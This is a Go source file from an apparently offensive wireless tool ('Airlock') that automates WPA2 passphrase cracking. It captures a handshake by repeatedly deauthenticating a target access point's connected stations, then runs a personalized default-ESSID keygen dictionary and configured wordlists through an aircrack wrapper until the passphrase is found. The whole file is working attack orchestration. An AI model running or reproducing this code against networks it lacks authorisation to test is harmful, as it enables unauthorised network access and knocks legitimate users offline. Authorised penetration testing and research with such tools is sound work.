package attack

import (
	"context"
	"errors"
	"fmt"
	"os"

	"Airlock/internal/aircrack"
	"Airlock/internal/capture"
	"Airlock/internal/files"
	"Airlock/internal/target"
	"Airlock/pkg/logger"
	"Airlock/pkg/models"
)

// Dictionary is one source of passphrase candidates.
type Dictionary interface {
	String() string
	// Prepare returns the wordlist file, or "" when there is nothing to try.
	Prepare(ctx context.Context, scratch string) (string, error)
}

// Wordlist is a dictionary file on disk. A leading ~ is resolved.
type Wordlist string

func (w Wordlist) String() string { return "dictionary " + string(w) }

func (w Wordlist) Prepare(context.Context, string) (string, error) {
	path, err := files.ExpandHome(string(w))
	if err != nil {
		return "", err
	}
	if !files.Exists(path) {
		logger.Warnf("[!] Dictionary %s not found, skipping it", path)
		return "", nil
	}
	return path, nil
}

// Personalized derives candidates from a default ESSID.
type Personalized struct {
	tools Launcher
	essid string
}

func (p Personalized) String() string { return "personalized dictionary of " + p.essid }

func (p Personalized) Prepare(ctx context.Context, scratch string) (string, error) {
	return p.tools.Keygen(ctx, p.essid, scratch)
}

// Dictionaries is the order a WPA2 campaign tries: the personalized
// dictionary of t when its ESSID allows one, then the configured wordlists.
func Dictionaries(tools Launcher, t *target.Target, cfg models.WPAConfig) []Dictionary {
	var dicts []Dictionary
	if cfg.Personalized && aircrack.Personalizable(t.ESSID) {
		dicts = append(dicts, Personalized{tools: tools, essid: t.ESSID})
	}
	for _, path := range cfg.Dictionaries {
		dicts = append(dicts, Wordlist(path))
	}
	return dicts
}

// WPA2 captures a handshake of t unless one is stored, then runs the
// dictionaries against it until one holds the passphrase.
func (a *Attacker) WPA2(ctx context.Context, t *target.Target) error {
	if !t.Has(target.Handshake) {
		if err := a.captureHandshake(ctx, t); err != nil {
			return err
		}
	}

	scratch, err := os.MkdirTemp("", "airlock-dictionaries-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(scratch)

	dicts := Dictionaries(a.tools, t, a.cfg.WPA)
	for i, d := range dicts {
		path, err := d.Prepare(ctx, scratch)
		if err != nil {
			return fmt.Errorf("prepare %s: %w", d, err)
		}
		if path == "" {
			continue
		}
		logger.Infof("[*] Cracking %s with %s (%d/%d)", t, d, i+1, len(dicts))
		found, err := a.crackWith(ctx, t, path)
		if err != nil {
			return err
		}
		if found {
			return nil
		}
		logger.Infof("[*] Passphrase of %s not in %s, next dictionary selected", t, d)
	}
	return fmt.Errorf("%s: %w", t, ErrNotInAnyDictionary)
}

// crackWith runs one dictionary against the stored handshake. A dictionary
// that does not hold the passphrase is a miss, not an error.
func (a *Attacker) crackWith(ctx context.Context, t *target.Target, dictionary string) (bool, error) {
	g := a.newGroup("wpa", t)
	defer closeGroup(g)

	cracker, err := a.tools.WPACracker(t, dictionary)
	if err != nil {
		return false, err
	}
	g.Adopt(cracker)
	for {
		err := cracker.Update()
		if errors.Is(err, aircrack.ErrCandidateNotInDictionary) {
			return false, nil
		}
		if err != nil {
			return false, err
		}
		if t.IsCracked() {
			return true, nil
		}
		if cracker.Terminated() {
			return false, fmt.Errorf("%s gave no verdict: %w", cracker.Name(), ErrNotCracked)
		}
		if err := wait(ctx, a.poll()); err != nil {
			return false, err
		}
	}
}

// captureHandshake listens on the channel of t and deauthenticates its
// stations until a handshake is in the capture, then stores it.
func (a *Attacker) captureHandshake(ctx context.Context, t *target.Target) error {
	g := a.newGroup("handshake", t)
	defer closeGroup(g)

	capturer, err := a.tools.Airodump(&t.AccessPoint)
	if err != nil {
		return err
	}
	g.Adopt(capturer)
	logger.Infof("[*] Waiting for a handshake of %s", t)

	for {
		if err := capturer.Update(); err != nil {
			return err
		}
		ready, err := capturer.Ready(capture.HasHandshake)
		if err != nil {
			return err
		}
		if ready {
			break
		}
		if stations := capturer.Stations(); len(stations) > 0 {
			if err := a.tools.Deauth(ctx, t.BSSID, stations, a.cfg.WPA.DeauthCount); err != nil {
				return err
			}
		} else {
			logger.DebugIfEnabled("[*] No stations on %s yet", t)
		}
		if err := wait(ctx, a.poll()); err != nil {
			return err
		}
	}

	if _, err := capturer.Stop(); err != nil {
		return err
	}
	path, _ := capturer.CapturePath()
	logger.Infof("[+] Captured a handshake of %s", t)
	return t.Save(target.Handshake, path)
}
